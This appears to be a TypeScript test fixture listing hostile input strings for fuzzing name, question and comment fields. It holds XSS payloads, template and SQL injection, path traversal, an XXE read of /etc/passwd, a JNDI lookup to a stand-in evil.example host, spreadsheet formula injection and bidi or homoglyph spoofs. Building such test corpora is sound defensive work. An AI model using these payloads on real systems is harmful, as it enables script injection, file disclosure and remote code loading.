/** Texts that a hostile service or agent could send in the place of a name, a question or a comment. */

const html = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action=//evil.example><input name=secret autofocus></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '</title><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;img src=x&#x3E;',
  "';alert(String.fromCharCode(88))//",
  '<x onclick=alert(1)>click',
  '<details open ontoggle=alert(1)>',
  '![image](https://evil.example/pixel.png)',
  '[link](javascript:alert(1))',
  '[link](https://arena.example@evil.example)',
  '<video><source onerror=alert(1)></video>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
]

const template = [
  '{{7*7}}',
  '{{name}}',
  '{{- name}}',
  '$t(welcome.title)',
  '$t(errors:internal.what)',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: what an evaluating template would run
  '${7*7}',
  '${process.env.HOME}',
  '#{7*7}',
  '${jndi:ldap://evil.example/a}',
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: end of them
  '<%= 7*7 %>',
  '%s%s%s%n%n',
  '%c styled',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  '[object Object]',
  'NaN',
  '-0',
  '1e400',
  "'; DROP TABLE outbox; --",
  '" OR 1=1 --',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  'file:///etc/passwd',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '=HYPERLINK("https://evil.example")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '+1-1|cmd',
  '-2+3+cmd',
  '\t=1+1',
]

const ansi = [
  '\u001b[31mred',
  '\u001b[2J',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  '\u009b31m',
  '\u001bP+q\u001b\\',
  'a\bb',
  'a\rb',
  '\u0007',
  '\u007f',
]

/** Characters that turn text around, show nothing, or end a line where none is seen. */
const invisible = [
  ...range(0x00, 0x08),
  ...range(0x0b, 0x0c),
  ...range(0x0e, 0x1f),
  ...range(0x7f, 0x9f),
  0xad,
  0x34f,
  0x61c,
  0x115f,
  0x1160,
  ...range(0x17b4, 0x17b5),
  ...range(0x180b, 0x180f),
  ...range(0x200b, 0x200f),
  ...range(0x2028, 0x202e),
  ...range(0x2060, 0x206f),
  0x3164,
  0xfeff,
  0xffa0,
  ...range(0xfff9, 0xfffb),
  ...range(0xe0001, 0xe0020),
  0xd800,
  0xdfff,
]

function range(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, index) => from + index)
}

const sized = [
  'x'.repeat(60_000),
  'é̂̃̄'.repeat(500),
  '👩‍👩‍👧‍👦'.repeat(500),
  `${'a\u0300'.repeat(200)}`,
  '\u202e'.repeat(1_000),
  '\n'.repeat(2_000),
]

const spoofs = [
  'Helios\u202e10-soil',
  'a\u2066\u202eb\u2069c',
  'Hel\u200bios-01',
  'Неlios-01',
  'ｈｅｌｉｏｓ',
  '⟦U+202E⟧',
  'a\u2028b',
  'name\u0000.exe',
]

export const hostileTexts: readonly string[] = [
  ...html,
  ...template,
  ...ansi,
  ...invisible.map((code) => `before${String.fromCodePoint(code)}after`),
  ...sized,
  ...spoofs,
]
